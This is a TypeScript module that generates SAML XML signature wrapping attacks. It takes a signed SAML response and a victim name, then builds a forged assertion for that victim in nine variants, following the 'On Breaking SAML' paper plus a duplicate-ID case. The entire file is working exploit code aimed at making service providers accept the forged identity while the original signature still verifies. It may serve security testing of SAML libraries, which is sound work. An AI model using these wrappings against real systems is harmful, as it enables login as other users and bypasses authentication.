import { DOMParser, type Element } from '../xml/xmldom.mjs'

/**
 * Signature wrapping: an answer that is signed for one person, rebuilt so that it holds a second assertion for another,
 * in the eight ways of Somorovsky and others, "On Breaking SAML" (2012), and one with the same id twice.
 * @param xml with a signed assertion, or for the first two with a signature over all of it
 */
export function wrap(variant: keyof typeof variants, xml: string, victim: string): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml')
  const response = document?.documentElement
  if (!response) throw new Error('there is no answer')
  const original = only(response, 'Assertion')
  const evil = original.cloneNode(true) as Element
  remove(signatureOf(evil))
  evil.setAttribute('ID', '_evil')
  only(evil, 'NameID').textContent = victim
  variants[variant]({ response, original, evil })
  return response.ownerDocument.toString()
}

interface Parts {
  response: Element
  original: Element
  evil: Element
}

const variants = {
  'the signed answer inside the signature of a forged one': ({ response, original, evil }) => {
    const copy = response.cloneNode(true) as Element
    remove(signatureOf(copy))
    response.setAttribute('ID', '_evil_response')
    signatureOf(response)?.appendChild(objectWith(copy))
    response.replaceChild(evil, original)
  },
  'the signed answer beside the signature in a forged one': ({ response, original, evil }) => {
    const copy = response.cloneNode(true) as Element
    remove(signatureOf(copy))
    response.setAttribute('ID', '_evil_response')
    response.insertBefore(copy, signatureOf(response) ?? null)
    response.replaceChild(evil, original)
  },
  'a forged assertion before the signed one': ({ response, original, evil }) => {
    response.insertBefore(evil, original)
  },
  'the signed assertion inside a forged one': ({ response, original, evil }) => {
    response.replaceChild(evil, original)
    evil.appendChild(original)
  },
  'the signature in a forged assertion, the signed one after it': ({ response, original, evil }) => {
    const signature = remove(signatureOf(original))
    response.insertBefore(evil, original)
    if (signature) evil.insertBefore(signature, evil.childNodes[1] ?? null)
  },
  'the signed assertion inside its signature in a forged one': ({ response, original, evil }) => {
    const signature = remove(signatureOf(original))
    response.replaceChild(evil, original)
    if (!signature) return
    evil.insertBefore(signature, evil.childNodes[1] ?? null)
    signature.appendChild(original)
  },
  'a forged assertion among extensions': ({ response, original, evil }) => {
    const extensions = document(response).createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions')
    extensions.appendChild(evil)
    response.insertBefore(extensions, original)
  },
  'the signed assertion as an object of its signature in a forged one': ({ response, original, evil }) => {
    const signature = remove(signatureOf(original))
    response.replaceChild(evil, original)
    if (!signature) return
    evil.insertBefore(signature, evil.childNodes[1] ?? null)
    signature.appendChild(objectWith(original))
  },
  'a forged assertion with the id of the signed one': ({ response, original, evil }) => {
    evil.setAttribute('ID', original.getAttribute('ID') ?? '')
    const signature = remove(signatureOf(original))
    response.replaceChild(evil, original)
    if (!signature) return
    evil.insertBefore(signature, evil.childNodes[1] ?? null)
    signature.appendChild(objectWith(original))
  },
} satisfies Record<string, (parts: Parts) => void>

export const wrappings = Object.keys(variants) as (keyof typeof variants)[]

const document = (element: Element) => element.ownerDocument

function only(within: Element, name: string): Element {
  const [found] = Array.from(within.getElementsByTagNameNS('*', name))
  if (!found) throw new Error(`there is no ${name}`)
  return found
}

/** Directly below it. */
function signatureOf(element: Element): Element | undefined {
  return Array.from(element.childNodes).find((node): node is Element => (node as Element).localName === 'Signature')
}

function remove(element: Element | undefined): Element | undefined {
  element?.parentNode?.removeChild(element)
  return element
}

function objectWith(element: Element): Element {
  const object = document(element).createElementNS('http://www.w3.org/2000/09/xmldsig#', 'Object')
  object.appendChild(element)
  return object
}
